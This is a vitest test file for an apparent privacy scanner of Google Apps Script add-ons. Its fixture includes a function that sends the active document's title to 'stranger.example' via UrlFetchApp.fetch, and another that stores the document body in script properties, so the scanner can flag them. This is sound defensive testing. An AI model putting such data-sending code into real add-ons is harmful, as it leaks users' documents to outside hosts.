import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { readApp } from '../../app/read-app.ts'
import { tryProject } from './try-project.ts'

const folder = mkdtempSync(join(tmpdir(), 'project-'))
/** Pages are shown in pages.browser.test.ts alone. */
const noBrowser = () => Promise.reject(new Error('There is none here.'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

test('a run finds what the functions log, keep and send, and says which pages it didn’t show', async () => {
  const scopes = ['documents.currentonly', 'script.container.ui', 'script.external_request']
  writeFileSync(
    join(folder, 'appsscript.json'),
    JSON.stringify({ oauthScopes: scopes.map((name) => `https://www.googleapis.com/auth/${name}`) }),
  )
  writeFileSync(join(folder, 'side.html'), '<p>Side</p>')
  writeFileSync(
    join(folder, 'Code.gs'),
    `function onOpen() { DocumentApp.getUi().createAddonMenu().addItem('Log', 'logIt').addToUi() }
function logIt() { console.log(DocumentApp.getActiveDocument().getName()) }
function keepIt(text) { PropertiesService.getScriptProperties().setProperty('text', DocumentApp.getActiveDocument().getBody().getText()) }
function sendIt() { UrlFetchApp.fetch('https://stranger.example/?t=' + encodeURIComponent(DocumentApp.getActiveDocument().getName())) }
function count() { return DocumentApp.getActiveDocument().getBody().getNumChildren() }
`,
  )
  const app = readApp(folder)
  if (app.platform !== 'apps-script') throw new Error('It is a project.')
  const facts = await tryProject(app, undefined, { lend: noBrowser })
  const told = facts.findings.map(
    ({ code, claim, at, data }) => `${claim} ${code} ${at.line} ${data.label ?? data.host}`,
  )
  expect([...new Set(told)].sort()).toEqual([
    'C1 CANARY_LOGGED 2 title',
    'C1 CANARY_SENT 4 title',
    'C1 CANARY_STORED 3 body',
    'C4 HOST_REACHED 4 stranger.example',
    'C7 CANARY_LEFT 4 title',
    'C8 CANARY_STORED 3 body',
  ])
  expect(facts.gaps.map(({ code }) => code)).toEqual(['PAGE_NOT_DRIVEN'])
  expect(facts.drives.map(({ what, outcome }) => `${what}: ${outcome}`)).toContain(
    'run count in a document: done',
  )
})
